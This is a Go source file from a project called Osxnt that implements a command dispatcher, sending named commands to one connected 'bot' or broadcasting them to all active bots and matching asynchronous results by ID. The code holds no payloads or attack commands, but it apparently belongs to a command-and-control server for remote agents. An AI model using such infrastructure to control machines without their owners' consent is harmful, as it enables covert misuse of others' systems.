// ABOUTME: Command dispatcher: sends commands to one bot or broadcasts to all active bots.
// ABOUTME: Commands are fire-and-forget; results arrive asynchronously and are correlated by ID.

package dispatch

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/uuid"

	"github.com/alzzmetth/Osxnt/internal/protocol"
	"github.com/alzzmetth/Osxnt/internal/registry"
)

// ErrNotConnected indicates the target bot has no live session.
var ErrNotConnected = errors.New("bot not connected")

// Command is one outstanding request to a bot.
type Command struct {
	ID       string
	BotID    string
	Name     string
	Payload  any
	IssuedAt time.Time
}

// Outcome is the per-bot result of a Send inside a Broadcast.
type Outcome struct {
	BotID string
	CmdID string
	Err   error
}

// OK reports whether the send succeeded.
func (o Outcome) OK() bool { return o.Err == nil }

// Detail is a human-readable outcome string for operator display.
func (o Outcome) Detail() string {
	if o.Err == nil {
		return "command sent"
	}
	return o.Err.Error()
}

// ResultStore persists command results. Implemented by the history store;
// nil disables persistence.
type ResultStore interface {
	RecordResult(ctx context.Context, botID, cmdID, result string) error
}

type pendingCmd struct {
	cmd Command
	ch  chan string
}

// Dispatcher sends commands to bots through their registry transports and
// tracks them until a result arrives. It implements session.ResultHandler.
type Dispatcher struct {
	reg     *registry.Registry
	history ResultStore
	logger  *slog.Logger

	mu      sync.Mutex
	pending map[string]*pendingCmd

	sent      atomic.Int64
	succeeded atomic.Int64
	failed    atomic.Int64

	now func() time.Time
}

// New creates a dispatcher over the given registry. history may be nil.
func New(reg *registry.Registry, history ResultStore, logger *slog.Logger) *Dispatcher {
	if logger == nil {
		logger = slog.Default()
	}
	return &Dispatcher{
		reg:     reg,
		history: history,
		logger:  logger.With("component", "dispatcher"),
		pending: make(map[string]*pendingCmd),
		now:     time.Now,
	}
}

// Send dispatches one command to one bot. It returns the allocated command
// ID on success; the result arrives later through Resolve. Returns
// ErrNotConnected if the bot has no live session.
func (d *Dispatcher) Send(botID, name string, payload any) (string, error) {
	t, ok := d.reg.Transport(botID)
	if !ok {
		d.failed.Add(1)
		return "", fmt.Errorf("%w: %s", ErrNotConnected, botID)
	}

	cmd := Command{
		ID:       uuid.NewString(),
		BotID:    botID,
		Name:     name,
		Payload:  payload,
		IssuedAt: d.now(),
	}
	msg := protocol.Command{
		Type:      protocol.TypeCommand,
		CmdID:     cmd.ID,
		Command:   name,
		Data:      payload,
		Timestamp: float64(cmd.IssuedAt.UnixNano()) / float64(time.Second),
	}
	// Record the command before the frame hits the wire: an agent that
	// answers immediately must find the pending entry when Resolve runs.
	d.mu.Lock()
	d.pending[cmd.ID] = &pendingCmd{cmd: cmd}
	d.mu.Unlock()
	d.reg.AddTask(botID, cmd.ID)

	if err := t.Send(msg); err != nil {
		d.mu.Lock()
		delete(d.pending, cmd.ID)
		d.mu.Unlock()
		d.reg.CompleteTask(botID, cmd.ID)
		d.failed.Add(1)
		return "", fmt.Errorf("sending command to %s: %w", botID, err)
	}

	d.sent.Add(1)
	d.reg.AppendLog(registry.LevelInfo, fmt.Sprintf("Command '%s' sent to %s", name, botID))
	d.logger.Debug("command dispatched", "bot_id", botID, "cmd_id", cmd.ID, "command", name)
	return cmd.ID, nil
}

// Broadcast sends the command to every bot that was Active when the call was
// made. Bots that fail their individual send simply contribute a failed
// outcome; no single bot delays the others beyond its own socket write.
func (d *Dispatcher) Broadcast(name string, payload any) []Outcome {
	bots := d.reg.ListActive()
	outcomes := make([]Outcome, 0, len(bots))
	for _, b := range bots {
		cmdID, err := d.Send(b.ID, name, payload)
		outcomes = append(outcomes, Outcome{BotID: b.ID, CmdID: cmdID, Err: err})
	}
	return outcomes
}

// Await subscribes to the result of an outstanding command. The channel
// receives at most one value, and is closed without one if the bot
// disconnects first. Returns false if the command is unknown or already
// resolved.
func (d *Dispatcher) Await(cmdID string) (<-chan string, bool) {
	d.mu.Lock()
	defer d.mu.Unlock()

	p, ok := d.pending[cmdID]
	if !ok {
		return nil, false
	}
	if p.ch == nil {
		p.ch = make(chan string, 1)
	}
	return p.ch, true
}

// Resolve correlates an inbound result to its pending command, forwards it
// to any subscriber, and persists it. Results for unknown commands are
// logged and dropped; a session being torn down may still deliver one late.
func (d *Dispatcher) Resolve(botID, cmdID, result string) {
	d.mu.Lock()
	p, ok := d.pending[cmdID]
	if ok {
		delete(d.pending, cmdID)
	}
	d.mu.Unlock()

	if !ok {
		d.logger.Debug("result for unknown command", "bot_id", botID, "cmd_id", cmdID)
		return
	}

	d.reg.CompleteTask(botID, cmdID)
	d.succeeded.Add(1)
	d.reg.AppendLog(registry.LevelDebug, fmt.Sprintf("Command %s result from %s", cmdID, botID))

	if p.ch != nil {
		select {
		case p.ch <- result:
		default:
		}
	}

	if d.history != nil {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		if err := d.history.RecordResult(ctx, botID, cmdID, result); err != nil {
			d.logger.Warn("recording command result", "error", err)
		}
	}
}

// DropBot abandons every outstanding command for a disconnecting bot. Each
// abandoned command counts as failed, and subscribed Await channels are
// closed so nobody waits forever on a result from a dead bot.
func (d *Dispatcher) DropBot(botID string) {
	d.mu.Lock()
	var dropped []*pendingCmd
	for id, p := range d.pending {
		if p.cmd.BotID == botID {
			delete(d.pending, id)
			dropped = append(dropped, p)
		}
	}
	d.mu.Unlock()

	for _, p := range dropped {
		d.failed.Add(1)
		if p.ch != nil {
			close(p.ch)
		}
	}
	if len(dropped) > 0 {
		d.logger.Debug("abandoned outstanding commands", "bot_id", botID, "count", len(dropped))
	}
}

// Pending returns the number of commands still awaiting a result.
func (d *Dispatcher) Pending() int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return len(d.pending)
}

// Stats returns the dispatcher's lifetime counters: commands sent,
// commands with a received result, and failed sends.
func (d *Dispatcher) Stats() (sent, succeeded, failed int64) {
	return d.sent.Load(), d.succeeded.Load(), d.failed.Load()
}
